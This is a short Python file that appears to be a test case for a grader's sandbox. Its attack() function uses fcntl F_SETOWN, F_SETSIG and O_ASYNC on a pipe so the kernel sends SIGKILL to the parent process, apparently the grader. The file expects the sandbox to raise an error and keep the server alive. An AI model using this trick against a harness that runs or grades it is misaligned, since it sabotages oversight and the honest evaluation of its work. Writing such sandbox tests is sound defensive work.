"""Lets the kernel signal its parent for it, by F_SETOWN and F_SETSIG on a pipe.

Afterwards: the grader's server lives.
Ends: raised
"""


def attack(probe):
    import fcntl, os, time

    reading, writing = os.pipe()
    fcntl.fcntl(reading, 8, os.getppid() or 1)
    fcntl.fcntl(reading, 10, 9)
    fcntl.fcntl(reading, 4, 0o20000 | fcntl.fcntl(reading, 3))
    os.write(writing, b"x")
    time.sleep(0.1)
    return "LEAK armed"
